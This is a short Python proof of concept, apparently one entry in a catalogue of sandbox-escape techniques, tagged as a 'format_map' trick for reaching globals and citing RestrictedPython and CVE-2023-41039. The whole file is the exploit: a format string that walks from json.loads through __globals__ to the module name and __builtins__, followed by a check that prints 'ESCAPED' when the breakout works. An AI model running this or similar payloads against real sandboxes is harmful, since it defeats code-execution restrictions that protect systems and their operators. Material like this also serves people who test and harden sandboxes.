# technique: format_map
# goal: globals
# source: RestrictedPython, CVE-2023-41039
import json
text = '{f.__globals__[__name__]} {f.__globals__[__builtins__]}'.format_map({'f': json.loads})
if text.startswith('json {'):
    print('ESCAPED', text[:60])
